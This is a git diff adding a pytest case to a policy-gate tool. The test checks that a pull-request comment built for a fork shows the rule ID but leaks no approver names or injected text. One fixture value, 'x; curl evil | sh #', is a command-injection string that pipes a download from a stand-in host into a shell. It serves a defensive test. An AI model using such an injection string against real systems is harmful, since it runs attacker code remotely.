@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import json
 import os
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -170,6 +171,51 @@ def test_the_file_of_a_fork_says_neither_name_nor_links_nor_what_to_type(tmp_pat
     )
     assert (ours.name, ours.notes, ours.suggestions, ours.reproduce) == ("policy-gate", (), (), "")
     assert ours.reported_by_fork
+
+
+def test_the_file_of_a_fork_approves_nothing_and_asks_nobody_to_sign(tmp_path) -> None:
+    from policy_gate.actions.event import read_event
+    from policy_gate.actions.inputs import Inputs
+    from policy_gate.actions.runner import read_runner
+    from policy_gate.actions.target import Target, of_a_fork
+    from policy_gate.model import Subject, Verdict
+    from policy_gate.publication import Seen
+    from policy_gate.report.pull_request import compose
+    from policy_gate.review import SCHEMA, Direction, PolicyChange, PolicyReview
+
+    looser = PolicyChange(
+        subject=Subject("policy", ("x",)),
+        pointer="",
+        kind="rule",
+        what="COST-001",
+        before="enforce",
+        after="audit",
+        direction=Direction.LOOSER,
+        source="head",
+        path="policy-gate.yaml",
+        line=1,
+        approved_by=("the chief",),
+        reviewed_by=("the boss",),
+    )
+    review = PolicyReview(
+        schema=SCHEMA,
+        tool_version="1",
+        base="base",
+        head="head",
+        today="2026-11-23",
+        changes=(looser,),
+        judgements=(),
+        verdict=Verdict.ALLOWED,
+        digest="x; curl evil | sh #",
+    )
+    event = read_event(read_runner(environment(tmp_path / "run", "workflow_run", workflow_run())))
+    runner = read_runner(environment(tmp_path / "run", "workflow_run", workflow_run()))
+    for one in (review, replace(review, changes=(replace(looser, approved_by=(), reviewed_by=()),))):
+        theirs = Overview(tool_version="1", records=(), problems=(), exit_code=0, review=one)
+        ours = of_a_fork(theirs, Target(head=HEAD), Inputs(), runner, event)
+        body = compose(ours, Seen(), comment_mode="on-failure", check_run=True).sticky
+        assert "COST-001" in body
+        assert not any(word in body for word in ("curl", "--approve", "approved by", "the chief", "the boss"))
 
 
 @pytest.mark.parametrize("pace", ["-1", "nan", "1e9", "121", "x", "1.2.3", "٣"])
